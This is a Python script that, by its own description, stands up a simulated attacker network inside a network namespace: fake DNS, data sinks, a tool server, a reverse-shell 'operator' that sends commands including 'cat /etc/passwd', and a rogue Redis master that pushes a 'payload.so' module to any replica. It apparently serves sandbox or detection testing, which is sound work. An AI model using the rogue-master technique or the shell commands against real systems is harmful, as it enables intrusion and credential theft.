"""What lies around a workload, in its network namespace: names, a neighbour that it asks, and the attacker's machines.

All addresses are the namespace's own loopback: 10.88.0.0/16 stands for the inside, 203.0.113.0/24 and 198.51.100.0/24 for the
world. Run as `ip netns exec NAMESPACE python world.py FOLDER`; FOLDER holds what the attacker gives away. Attacks nothing.
"""

from __future__ import annotations

import contextlib
import os
import socket
import sys
import threading
import time
from collections.abc import Callable
from pathlib import Path

DNS = ("10.88.0.2", 53)
PRICES = ("10.88.0.20", 9000)
TOOLS = ("203.0.113.66", 8000)
SHELL = ("203.0.113.66", 4444)
MASTER = ("203.0.113.66", 6380)
SINKS = (("203.0.113.66", 443), ("203.0.113.66", 8443), ("203.0.113.77", 3333))
NAMES = {"prices.internal": PRICES[0], "updates.example.net": "198.51.100.10"}
COMMANDS = b"id\nuname -a\ncat /etc/passwd\nls -la / /tmp\nexit\n"
REPLICATION_ID = "0" * 40


def serve(address: tuple[str, int], handle: Callable[[socket.socket], None]) -> None:
    """A thread for the address and one for each connection."""

    def one(peer: socket.socket) -> None:
        with contextlib.suppress(OSError), peer:
            peer.settimeout(30)
            handle(peer)

    def loop() -> None:
        with socket.create_server(address, backlog=64) as server:
            while True:
                peer, _ = server.accept()
                threading.Thread(target=one, args=(peer,), daemon=True).start()

    threading.Thread(target=loop, daemon=True).start()


def sink(peer: socket.socket) -> None:
    """Takes everything."""
    while peer.recv(65536):
        pass


def shell(peer: socket.socket) -> None:
    """An operator at the other end of a reverse shell."""
    time.sleep(0.3)
    peer.sendall(COMMANDS)
    sink(peer)


def http(answer: Callable[[str], bytes]) -> Callable[[socket.socket], None]:
    """As much of HTTP as clients need."""

    def handle(peer: socket.socket) -> None:
        asked = peer.recv(65536).split(b"\r\n", 1)[0].decode("ascii", "replace").split(" ")
        body = answer(asked[1] if len(asked) > 1 else "/")
        peer.sendall(b"HTTP/1.0 200 OK\r\nContent-Length: %d\r\n\r\n" % len(body) + body)

    return handle


def names() -> None:
    """Answers every query: the inside's names by the table, all others with an address of the world."""
    server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    server.bind(DNS)
    while True:
        query, peer = server.recvfrom(4096)
        labels, at = [], 12
        while at < len(query) and query[at]:
            labels.append(query[at + 1 : at + 1 + query[at]].decode("ascii", "replace"))
            at += 1 + query[at]
        question = query[12 : at + 5]
        kind = int.from_bytes(query[at + 1 : at + 3], "big")
        address = socket.inet_aton(NAMES.get(".".join(labels).lower(), "203.0.113.66"))
        record = b"\xc0\x0c\x00\x01\x00\x01\x00\x00\x00\x3c\x00\x04" + address if kind == 1 else b""
        head = query[:2] + b"\x81\x80\x00\x01" + (b"\x00\x01" if record else b"\x00\x00") + b"\x00\x00\x00\x00"
        server.sendto(head + question + record, peer)


def master(folder: Path) -> Callable[[socket.socket], None]:
    """A false Redis master: whoever becomes its replica gets `payload.so` in place of a database."""

    def handle(peer: socket.socket) -> None:
        while data := peer.recv(4096):
            if b"PING" in data:
                peer.sendall(b"+PONG\r\n")
            elif b"REPLCONF" in data:
                peer.sendall(b"+OK\r\n")
            elif b"PSYNC" in data:
                payload = (folder / "payload.so").read_bytes()
                peer.sendall(f"+FULLRESYNC {REPLICATION_ID} 1\r\n${len(payload)}\r\n".encode() + payload)

    return handle


def main(folder: Path) -> None:
    """Until it is ended."""

    def tool(path: str) -> bytes:
        file = folder / os.path.basename(path)
        return file.read_bytes() if file.is_file() else b"#!/bin/sh\nid\n"

    for address in SINKS:
        serve(address, sink)
    serve(SHELL, shell)
    serve(TOOLS, http(tool))
    serve(MASTER, master(folder))
    serve(PRICES, http(lambda _: b'{"bread": 3}'))
    threading.Thread(target=names, daemon=True).start()
    print("ready", flush=True)
    threading.Event().wait()


if __name__ == "__main__":
    main(Path(sys.argv[1]))
